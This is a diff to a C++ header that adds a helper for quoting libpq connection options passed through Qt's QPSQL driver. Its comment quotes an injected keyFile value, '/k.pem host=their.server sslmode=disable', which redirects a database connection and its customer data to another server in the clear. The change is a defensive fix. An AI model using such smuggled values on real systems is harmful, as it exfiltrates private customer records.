@@ -49,6 +49,12 @@ public:
     // Role and team names IT may use: lower-case letters, digits, '.', '_' and '-', starting with
     // a letter, at most 63 bytes (PostgreSQL's identifier limit).
     static bool isValidName(const QString& name);
+    // The libpq options for QPSQL's setConnectOptions, each value quoted. QPSQL appends that
+    // text as it is after the host, user and password it quotes itself, and in libpq's
+    // connection string a later keyword wins: an agent's own team/keyFile of
+    // "/k.pem host=their.server sslmode=disable" sent the team's history, every customer's name
+    // and number in it, to a server of the agent's choosing and in the clear.
+    static QString connectOptions(const QList<QPair<QString, QString>>& options);
 };
 
 } // namespace attune
